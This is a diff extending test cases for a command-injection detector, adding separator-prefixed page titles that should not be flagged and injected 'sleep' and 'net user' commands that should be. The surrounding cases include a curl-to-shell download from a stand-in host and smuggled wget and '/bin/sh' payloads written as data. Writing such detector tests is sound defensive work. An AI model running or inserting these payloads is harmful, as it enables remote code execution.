@@ -254,6 +254,11 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["rce", "curl http://x.example/s|sh", true],
   ["rce", "a;wget;b", false],
   ["rce", "a;wget http://x.example/s", true],
+  // sleep wants a duration, net one of its subcommands: page titles' prose after a separator is neither
+  ["rce", "Example News | sleep now", false],
+  ["rce", "Finance | Net income", false],
+  ["rce", "x;sleep infinity", true],
+  ["rce", "x|net user", true],
   ["rce", "${PATH:0:1}bin${PATH:0:1}sh", true],
   ["rce", "a=${@}", true],
   ["rce", "x ${", true],
